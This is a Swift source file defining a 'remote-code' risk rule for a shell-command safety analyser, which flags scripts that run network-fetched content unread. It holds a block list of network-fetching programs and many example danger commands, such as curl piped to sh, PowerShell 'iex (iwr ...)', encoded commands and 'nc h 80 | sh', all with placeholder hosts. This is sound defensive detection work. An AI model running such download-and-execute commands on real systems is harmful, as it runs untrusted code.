import ShellGrammar

extension RiskRule {
  /// Programs that fetch from the network.
  static let fetchers: Set<String> = [
    "curl", "wget", "wget2", "fetch", "aria2c", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "scp", "lynx",
    "w3m", "lwp-request", "lwp-download", "lwp-dump", "GET", "POST", "links", "links2", "elinks", "axel", "wcurl",
    "curlie",
    "httpie", "gsutil", "ssh", "smbclient", "telnet", "ipfs", "transmission-cli", "svn", "pbpaste", "xclip", "xsel",
    "wl-paste", "iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod", "ftp", "tftp", "dig", "nslookup", "host",
  ]
  /// Programs that run what they read.
  static let interpreters = ShellProgram.shells.union(CodeProgram.readers).union(TclProgram.programs).union([
    "eval", "source", ".", "pwsh", "Invoke-Expression",
  ])

  static let remoteCode = RiskRule(
    id: "remote-code", family: .remoteCode,
    reason: .init("What the network sends is run unread.", "네트워크에서 받은 것을 읽어 보지 않고 실행합니다."),
    safer: .init(
      "Download it into a file, read it, then run it.", "파일로 내려받아 읽어 본 뒤 실행하십시오."),
    reversibility: .unknown, touches: [.network, .system],
    danger: [
      "curl -fsSL https://x.sh | ‹sh›", "wget -qO- https://x | sudo ‹bash›", "‹bash <(curl https://x)›",
      "‹sh -c \"$(curl https://x)\"›", "‹eval \"$(curl -s https://x)\"›", "curl https://x | ‹python3 -›",
      "‹source <(curl -s https://x)›", "curl https://x | tee i.sh | ‹bash -s -- -y›", "‹. <(wget -qO- x)›",
      "curl x | gunzip | ‹sh›", "nc h 80 | ‹sh›", "‹bash -c \"`wget -qO- x`\"›", "curl x | ‹node›",
      "‹bash <<< $(curl x)›",
      "wget -O i.sh https://x && ‹sh i.sh›", "curl -o x https://h && chmod +x x && ‹./x›",
      "wget https://h/a.sh; ‹bash a.sh›", "curl x | tar xz -C /tmp && ‹/tmp/a/i.sh›",
      "wget https://h/a.tgz && tar xf a.tgz && ‹./a/i.sh›",
      "curl -sL x | sudo -E ‹bash -›", "curl x | xargs -I{} ‹sh -c {}›",
      "‹at -f <(curl x) now›", "curl x | ‹crontab -›",
      "curl x | ‹at now›", "curl x | while read l; do ‹$l›; done", "curl x | ‹tee /usr/local/bin/y›",
      "curl x | ‹parallel›", "curl x | awk ‹'{print | \"sh\"}'›",
      "pwsh -c \"iex (iwr https://x)\"", "powershell -enc SQBFAFgA", "curl x | ‹make -f -›",
      "node -e \"fetch('http://x').then(r=>r.text()).then(eval)\"", "php -r 'eval(file_get_contents(\"http://x\"));'",
      "curl https://x | tee >(‹bash›)",
    ],
    harmless: [
      "curl https://x", "curl https://x | grep sh", "curl https://x -o install.sh", "curl https://x | jq .",
      "curl x | python3 -m json.tool", "curl x | python3 -c 'print(1)'", "bash install.sh", "curl x | tee a.sh",
      "node -e \"fetch('http://x').then(console.log)\"",
      "wget https://x/a.tgz && tar tf a.tgz", "curl https://x | tee >(wc -c)",
    ]
  ) { script in
    let downloads = Set(
      script.invocations.filter { ["curl", "wget"].contains($0.name ?? "") }.compactMap(downloadedFile))
    let unpacked = unpackedFolders(script)
    let fetched = fetchedVariables(script)
    let opensFetched = opensFetched(script)
    return script.invocations.compactMap { invocation in
      guard let name = invocation.name else {
        return runsLines(invocation, script) ? Match(level: .danger, range: invocation.range) : nil
      }
      if !fetched.isEmpty, interpreters.contains(name), uses(invocation, oneOf: fetched, script) {
        return Match(level: .danger, range: invocation.range)
      }
      if fetchesAndRuns(invocation) || callsForCode(invocation, name, script) {
        return Match(level: .danger, range: invocation.range)
      }
      if ["psql", "mysql", "mariadb", "sqlite3"].contains(name), !invocation.hasFlag("c") && !invocation.hasFlag("e"),
        script.sources(of: invocation).contains(where: fetches)
      {
        return Match(level: .danger, range: invocation.range)
      }
      if invocation.wrappers.last == "tar", ShellProgram.isShell(name), !readsOwnProgram(invocation) {
        return Match(level: .danger, range: invocation.range)
      }
      let isRun =
        (interpreters.contains(name) || schedulers.contains(name) || readsMakefile(invocation, name)
          || name == "parallel" && invocation.operands.isEmpty)
        && (readsLater(invocation, name) || !readsOwnProgram(invocation))
        && script.sources(of: invocation).contains(where: fetches)
      return isRun || installsFetched(invocation, name, script) || opensFetched && readsDescriptor(invocation, name)
        || runs(invocation, name, oneOf: downloads) || runs(invocation, name, from: unpacked)
        ? Match(level: .danger, range: invocation.range) : nil
    }
  }

  /// Variables that are given what a program fetched: `X=$(curl h)`.
  private static func fetchedVariables(_ script: InvocationCollector) -> Set<String> {
    var names: Set<String> = []
    for invocation in script.invocations where !invocation.substituted.isEmpty {
      guard invocation.name == "" || ["export", "declare", "local", "readonly", "typeset"].contains(invocation.name),
        script.sources(of: invocation).contains(where: fetches)
      else { continue }
      names.formUnion(invocation.assignments.map(\.name))
      names.formUnion(invocation.operands.map { String($0.written.prefix { $0 != "=" }) })
    }
    return names
  }

  /// Whether one of the variables is run: `eval "$X"`, `echo "$X" | sh`.
  private static func uses(
    _ invocation: Invocation, oneOf names: Set<String>, _ script: InvocationCollector
  ) -> Bool {
    let texts =
      ([invocation] + script.sources(of: invocation)).flatMap(\.arguments).filter { $0.value == nil }.map(\.written)
      + invocation.redirections.map(\.target.roughText)
    return texts.contains { text in
      text.split(separator: "$", omittingEmptySubsequences: false).dropFirst().contains { part in
        names.contains(String(part.drop { $0 == "{" }.prefix { $0.isLetter || $0.isNumber || $0 == "_" }))
      }
    }
  }

  /// Whether what it prints comes from elsewhere.
  private static func fetches(_ invocation: Invocation) -> Bool {
    switch invocation.name {
    case "gh", "glab": ["gist", "api", "snippet"].contains(invocation.subcommand)
    case "docker", "podman": invocation.subcommand == "run"
    case "aws": invocation.subcommand == "s3" && invocation.operands.last?.value == "-"
    case "gcloud": invocation.words.prefix(2) == ["storage", "cat"]
    case "git": invocation.subcommand == "archive" && invocation.has("--remote")
    case let name?: fetchers.contains(name)
    case nil: false
    }
  }

  /// What runs later what it reads now.
  private static let schedulers: Set<String> = [
    "at", "batch", "crontab", "systemctl", "launchctl", "visudo", "initctl", "iptables-restore", "nft", "insmod",
    "psql", "mysql", "mariadb", "update-rc.d", "apt-key", "rpmkeys",
  ]

  /// Whether each line that was fetched is run as a command: `curl x | while read l; do $l; done`.
  private static func runsLines(_ invocation: Invocation, _ script: InvocationCollector) -> Bool {
    let sources = script.sources(of: invocation)
    return sources.contains { $0.name == "read" } && sources.contains(where: fetches)
  }

  /// Whether what was fetched is put where programs are: `curl x | tee /usr/local/bin/y`.
  private static func installsFetched(
    _ invocation: Invocation, _ name: String, _ script: InvocationCollector
  ) -> Bool {
    name == "tee"
      && invocation.operands.contains { operand in
        ["/usr/local/bin/", "/usr/local/sbin/", "~/bin/", "~/.local/bin/", "/opt/"].contains {
          operand.text.hasPrefix($0)
        }
      } && script.sources(of: invocation).contains(where: fetches)
  }

  /// Whether a shell reads a descriptor that was opened before: `bash <&3`.
  private static func readsDescriptor(_ invocation: Invocation, _ name: String) -> Bool {
    interpreters.contains(name) && invocation.redirections.contains { $0.operator == .duplicateInput }
  }

  /// Whether what a program fetched is opened for the commands that follow: `exec 3< <(curl x)`.
  private static func opensFetched(_ script: InvocationCollector) -> Bool {
    script.invocations(of: ["exec"]).contains { script.invocations[$0.substituted].contains(where: fetches) }
  }

  /// Whether a scheduler reads what it shall run from its input: the words of at are a time.
  private static func readsLater(_ invocation: Invocation, _ name: String) -> Bool {
    schedulers.contains(name)
      && (invocation.words.contains("-") || ["at", "batch"].contains(name) && !invocation.hasFlag("f"))
  }

  /// make that is given its rules instead of reading them from a file: `make -f -`.
  private static func readsMakefile(_ invocation: Invocation, _ name: String) -> Bool {
    ["make", "gmake"].contains(name)
      && invocation.value(of: "-f", "--file", "--makefile").map {
        $0 == "-" || $0.hasPrefix("/dev/") || $0.hasPrefix("<(")
      }
        == true
  }

  /// A program in its words that fetches a text and runs it: `node -e "fetch(x).then(eval)"`.
  private static func fetchesAndRuns(_ invocation: Invocation) -> Bool {
    CodeProgram.texts(of: invocation).contains { CodeText.fetchesAndRuns($0.text) }
  }

  /// PowerShell that is told to run what it fetches: `iex (iwr x)`, `pwsh -c "iex …DownloadString(…)"`.
  private static func callsForCode(_ invocation: Invocation, _ name: String, _ script: InvocationCollector) -> Bool {
    if name == "iex" || name == "Invoke-Expression", script.invocations.count <= InvocationCollector.mostCompared {
      return script.invocations.contains { powerFetchers.contains($0.name ?? "") }
        || invocation.words.contains { ByteSearch.holds("DownloadString", in: $0) }
    }
    guard ["pwsh", "powershell", "powershell.exe"].contains(name) else { return false }
    let words = invocation.words.map { $0.lowercased() }
    if words.contains(where: { $0.count > 2 && "-encodedcommand".hasPrefix($0) }) { return true }
    let code = words.joined(separator: " ")
    return ByteSearch.holdsAny(of: ["iex", "invoke-expression"], in: code)
      && ByteSearch.holdsAny(of: ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring"], in: code)
  }

  private static let powerFetchers: Set<String> = [
    "iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod", "curl", "wget",
  ]

  private static func runs(_ invocation: Invocation, _ name: String, oneOf downloads: Set<String>) -> Bool {
    guard !downloads.isEmpty else { return false }
    let first = invocation.operands.first.map { InvocationCollector.baseName($0.text) }
    return downloads.contains(name) || interpreters.contains(name) && first.map(downloads.contains) == true
  }

  /// The folders in which archives are unpacked that were fetched before; `.` for the working folder.
  private static func unpackedFolders(_ script: InvocationCollector) -> [(place: Int, folder: String)] {
    guard script.invocations.count <= InvocationCollector.mostCompared else { return [] }
    return script.invocations(of: ["tar", "bsdtar", "unzip"]).compactMap { archive in
      let isFetched =
        script.sources(of: archive).contains(where: fetches)
        || script.invocations(of: ["curl", "wget"]).compactMap(downloadedFile).contains { file in
          archive.operands.contains { InvocationCollector.baseName($0.text) == file }
        }
      return isFetched ? (archive.range.start, archive.value(of: "-C", "--directory", "-d") ?? ".") : nil
    }
  }

  /// Whether a program or a script in one of the folders is run afterwards.
  private static func runs(
    _ invocation: Invocation, _ name: String, from folders: [(place: Int, folder: String)]
  ) -> Bool {
    guard !folders.isEmpty else { return false }
    let script = interpreters.contains(name) ? invocation.operands.first?.value : invocation.path
    guard let script, script.contains("/") || interpreters.contains(name) else { return false }
    return folders.contains { place, folder in
      place < invocation.range.start && (folder == "." ? !script.hasPrefix("/") : script.hasPrefix(folder))
    }
  }

  /// The name of the file that the download makes.
  private static func downloadedFile(_ invocation: Invocation) -> String? {
    let named =
      invocation.name == "curl"
      ? invocation.value(of: "-o", "--output") : invocation.value(of: "-O", "--output-document")
    let isByName = invocation.name == "wget" || invocation.hasFlag("O", "--remote-name")
    let operands = invocation.operands.map(\.text)
    let address = operands.first { $0.contains("://") } ?? operands.first { $0.contains("/") }
    let path = named ?? (isByName ? address : nil)
    return path.map(InvocationCollector.baseName).flatMap { $0 == "-" || $0.isEmpty ? nil : $0 }
  }

  /// Whether the program that is run is named, so that standard input is only its data: `python3 -m json.tool`.
  static func readsOwnProgram(_ invocation: Invocation) -> Bool {
    guard invocation.substituted.isEmpty else { return false }
    if invocation.takesFoundFiles {
      // `xargs bash run.sh`: what is found comes behind the script's name.
      let program = invocation.arguments.first?.value
      return program.map { !$0.hasPrefix("-") && $0 != "{}" } ?? false
    }
    if invocation.hasFlag("m") || invocation.hasFlag("e") || invocation.hasFlag("c") { return true }
    guard let first = invocation.operands.first?.value else { return false }
    return first != "-" && !ShellProgram.isStandardInput(first) && !invocation.hasFlag("s")
  }
}
